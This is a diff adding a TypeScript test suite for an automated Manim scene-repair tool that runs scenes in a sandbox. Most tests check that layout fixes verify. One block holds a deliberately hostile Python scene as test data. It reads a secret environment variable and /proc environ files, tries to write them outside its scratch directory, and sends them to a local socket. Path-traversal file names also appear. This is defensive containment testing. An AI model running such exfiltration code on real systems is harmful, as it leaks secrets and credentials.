@@ -1,0 +1,233 @@
+import fs from 'node:fs';
+import net from 'node:net';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { loadConfig, PROJECT_ROOT } from '../../src/config';
+import type { SceneSource } from '../../src/fragments/scene-sources';
+import type { FrameManifest } from '../../src/media/manifest';
+import { sceneFindings } from '../../src/scene/findings';
+import { timelineOf, type SceneTimeline } from '../../src/scene/inspection';
+import { runInspector } from '../../src/scene/inspector';
+import { repairScene, type SceneRepair } from '../../src/scene/repair';
+import { RepairSession } from '../../src/scene/repair/session';
+
+/**
+ * Scene repair on real Manim in the real sandbox: each scene of
+ * testkit/repair-scenes.py has one layout defect; its repair must verify an
+ * edit, and the patched sources must inspect clean outside the repair's own
+ * session. One repair per scene (each is a warm session of its own).
+ */
+
+const SCENES = path.join(PROJECT_ROOT, 'testkit', 'repair-scenes.py');
+const sources: SceneSource[] = [{ name: 'repair_scenes.py', content: fs.readFileSync(SCENES, 'utf8') }];
+const config = loadConfig({ EVALS_SCENE_TIMEOUT_SECONDS: '60', EVALS_SCENE_CPU_SECONDS: '30', EVALS_SCENE_MEMORY_MB: '1536' });
+const VIDEO = { width: 854, height: 480, fps: 15 };
+const DEFECTS = {
+  LabelOffRight: 'clipped_content',
+  OverlappingFormulas: 'overlap',
+  TinyText: 'unreadable_text',
+  DarkOnDark: 'low_contrast',
+  Leftover: 'clutter',
+} as const;
+
+/** The frames a pipeline would have stored: every half second. */
+const manifestOf = (t: SceneTimeline): FrameManifest => ({
+  durationMs: t.durationMs,
+  ...VIDEO,
+  frames: [...Array(Math.floor(t.durationMs / 500) + 1).keys()].map((k) => ({ index: k, timestampMs: k * 500, ...VIDEO, key: `f${k}` })),
+});
+
+async function inspect(files: readonly SceneSource[], scenes: readonly string[]): Promise<Map<string, SceneTimeline>> {
+  const ran = await runInspector(
+    files,
+    scenes.map((scene) => ({ ...VIDEO, scene, durationMs: 0 })),
+    { ...config.scene, limits: { ...config.scene.limits, wallMs: 300_000, cpuSeconds: 300 } },
+  );
+  if (!('answer' in ran)) throw new Error(`the inspector did not run: ${'refused' in ran ? ran.refused : ran.failure}`);
+  return new Map(
+    scenes.map((scene, i) => {
+      const timeline = timelineOf(ran.answer.results[i], ran.answer.manim ?? null, {});
+      if (!timeline) throw new Error(`${scene}: ${ran.answer.results[i]?.error}`);
+      return [scene, timeline];
+    }),
+  );
+}
+
+const repair = (files: readonly SceneSource[], timeline: SceneTimeline) =>
+  repairScene({
+    sources: files,
+    scene: timeline.scene,
+    timeline,
+    manifest: manifestOf(timeline),
+    video: { ...VIDEO, durationMs: timeline.durationMs },
+    settings: config.scene,
+  });
+
+/** What a repair cost, printed (never asserted): the warm CPU per re-inspection and the repair's wall time. */
+function report(name: string, r: SceneRepair): void {
+  const warm = ((r.cpuSeconds ?? 0) - (r.importCpuSeconds ?? 0)) / (r.candidates + 1);
+  console.log(
+    `[scene-repair] ${name}: ${r.candidates} candidate(s) + baseline, CPU warm ${warm.toFixed(2)} s each, Manim import ${r.importCpuSeconds?.toFixed(2)} s, wall ${(r.wallMs / 1000).toFixed(1)} s`,
+  );
+}
+
+let timelines: Map<string, SceneTimeline>;
+const repairs = new Map<string, SceneRepair>();
+
+beforeAll(async () => {
+  timelines = await inspect(sources, [...Object.keys(DEFECTS), 'Crowded']);
+}, 600_000);
+
+describe('scene repair (real Manim, real sandbox)', () => {
+  for (const [scene, category] of Object.entries(DEFECTS)) {
+    it(`${scene}: its ${category} finding gets a verified edit that touches only the fragment's file`, async () => {
+      const timeline = timelines.get(scene)!;
+      const before = [...sceneFindings(timeline, manifestOf(timeline)).values()].flat();
+      expect(before.map((i) => i.category)).toContain(category);
+      const r = await repair(sources, timeline);
+      report(scene, r);
+      repairs.set(scene, r);
+      const fix = r.fixes.find((f) => f.finding.category === category)!;
+      expect(fix.verdict, fix.reinspection).toBe('verified');
+      expect(fix.change).toMatch(/^line \d+: `.+` → `.+`$/);
+      expect(fix.suggestedFix).toBe(`${fix.change}; verified: ${fix.reinspection}`);
+      expect(fix.reinspection).toMatch(/^re-inspected, .+ from \d\d:\d\d\.\d on, no new finding, the timeline keeps its length/);
+      expect(Object.keys(fix.diff)).toEqual(['repair_scenes.py']);
+      expect(fix.diff['repair_scenes.py']).toMatch(/^--- a\/repair_scenes\.py\n\+\+\+ b\/repair_scenes\.py\n@@ /);
+      expect(r.combined.verdict).toBe('verified');
+      expect(Object.keys(r.combined.files)).toEqual(['repair_scenes.py']);
+      // The patch keeps every line where it was: only lines change, none come or go.
+      expect(r.combined.files['repair_scenes.py'].split('\n').length).toBe(sources[0].content.split('\n').length);
+    }, 300_000);
+  }
+
+  it('the patched sources, all together, inspect clean outside the repair (one fresh inspector run)', async () => {
+    expect([...repairs.keys()]).toEqual(Object.keys(DEFECTS));
+    // Each scene's patch changes its own lines only, and keeps every line's number: merged line by line.
+    const original = sources[0].content.split('\n');
+    const merged = original.map((line, n) => {
+      const changed = [...repairs.values()].map((r) => r.combined.files['repair_scenes.py'].split('\n')[n]).find((l) => l !== line);
+      return changed ?? line;
+    });
+    const after = await inspect([{ name: 'repair_scenes.py', content: merged.join('\n') }], Object.keys(DEFECTS));
+    for (const [scene, category] of Object.entries(DEFECTS)) {
+      const t = after.get(scene)!;
+      expect(Math.abs(t.durationMs - timelines.get(scene)!.durationMs)).toBeLessThanOrEqual(1000 / VIDEO.fps);
+      const issues = [...sceneFindings(t, manifestOf(t)).values()].flat();
+      expect(
+        issues.filter((i) => i.category === category).map((i) => i.description),
+        scene,
+      ).toEqual([]);
+      expect(
+        issues.filter((i) => i.severity !== 'LOW').map((i) => i.description),
+        scene,
+      ).toEqual([]);
+    }
+  }, 600_000);
+
+  it('a finding no edit can fix says so and keeps its advice', async () => {
+    const r = await repair(sources, timelines.get('Crowded')!);
+    const fix = r.fixes.find((f) => f.finding.category === 'clutter')!;
+    expect(fix.verdict).toBe('none');
+    expect(fix.change).toBeNull();
+    expect(fix.diff).toEqual({});
+    expect(fix.reinspection).toMatch(/no edit is computed for this finding/);
+    expect(fix.suggestedFix.startsWith(fix.finding.suggestedFix)).toBe(true);
+    expect(fix.suggestedFix).toMatch(/no verified fix: /);
+    expect(r.combined).toMatchObject({ verdict: 'none', files: {}, diff: {} });
+  }, 300_000);
+});
+
+describe('a hostile scene during repair (real sandbox)', () => {
+  const SECRET = `scene-repair-secret-${process.pid}-${Date.now()}`;
+  const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'evals-repair-escape-'));
+  let listener: net.Server;
+  let connections = 0;
+  let port = 0;
+  beforeAll(async () => {
+    process.env.EVALS_TEST_REPAIR_SECRET = SECRET;
+    listener = net.createServer((socket) => {
+      connections++;
+      socket.destroy();
+    });
+    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+    port = (listener.address() as net.AddressInfo).port;
+  });
+  afterAll(() => {
+    listener?.close();
+    fs.rmSync(outside, { recursive: true, force: true });
+    delete process.env.EVALS_TEST_REPAIR_SECRET;
+  });
+
+  // A tiny text made by a helper in a second file, whose every run (the baseline and each candidate) tries to get out.
+  const hostile = (): SceneSource[] => [
+    {
+      name: 'hostile_scene.py',
+      content: [
+        'from manim import *',
+        'import os, socket',
+        'from helpers import make_note',
+        '',
+        'class Hostile(Scene):',
+        '    def construct(self):',
+        '        found = os.environ.get("EVALS_TEST_REPAIR_SECRET", "")',
+        '        for name in ("/proc/1/environ", "/proc/self/environ"):',
+        '            try:',
+        '                found += open(name, "rb").read().decode("utf-8", "replace")',
+        '            except OSError:',
+        '                pass',
+        '        for target in (' +
+          JSON.stringify(path.join(outside, 'escaped.txt')) +
+          ', ' +
+          JSON.stringify(path.join(PROJECT_ROOT, 'escaped.txt')) +
+          '):',
+        '            try:',
+        '                open(target, "w").write(found)',
+        '            except OSError:',
+        '                pass',
+        '        try:',
+        `            socket.create_connection(("127.0.0.1", ${port}), timeout=1).sendall(found.encode())`,
+        '        except OSError:',
+        '            pass',
+        '        note = make_note("secret: " + ("leaked " + found[-60:] if "scene-repair-secret" in found else "none"))',
+        '        self.play(FadeIn(note), run_time=1)',
+        '        self.wait(1)',
+        '',
+      ].join('\n'),
+    },
+    { name: 'helpers.py', content: 'from manim import *\n\n\ndef make_note(text):\n    return Text(text, font_size=10)\n' },
+  ];
+
+  it("stays contained: no connection, nothing written outside its scratch, no secret read; the fix still verifies, in the fragment's files only", async () => {
+    const files = hostile();
+    const timeline = (await inspect(files, ['Hostile'])).get('Hostile')!;
+    const r = await repair(files, timeline);
+    report('Hostile', r);
+    expect(connections).toBe(0);
+    expect(fs.readdirSync(outside)).toEqual([]);
+    expect(fs.existsSync(path.join(PROJECT_ROOT, 'escaped.txt'))).toBe(false);
+    expect(JSON.stringify(r)).not.toContain(SECRET);
+    const fix = r.fixes.find((f) => f.finding.category === 'unreadable_text')!;
+    expect(fix.verdict, fix.reinspection).toBe('verified');
+    expect(fix.finding.description).toContain('secret: none');
+    // The text is made in the helper: the patch changes helpers.py, and nothing but the fragment's files.
+    expect(Object.keys(fix.diff)).toEqual(['helpers.py']);
+    expect(Object.keys(r.combined.files).every((name) => files.some((s) => s.name === name))).toBe(true);
+  }, 600_000);
+
+  it("an edit naming any file but the fragment's own is refused before anything runs", async () => {
+    const files = hostile();
+    const session = await RepairSession.open(files, 'Hostile', { ...VIDEO, durationMs: 2000 }, config.scene);
+    if ('failure' in session) throw new Error(session.failure);
+    try {
+      for (const file of ['../hostile_scene.py', '/etc/hostname', 'other.py', path.join(outside, 'x.py')]) {
+        const run = await session.inspect([{ file, line: 5, op: { kind: 'keyword', call: 'Text', keyword: 'font_size', value: '30' } }]);
+        expect(run).toEqual({ status: 'invalid', reason: `'${file}' is not one of the scene's source files` });
+      }
+    } finally {
+      await session.close();
+    }
+    expect(fs.readdirSync(outside)).toEqual([]);
+  }, 300_000);
+});
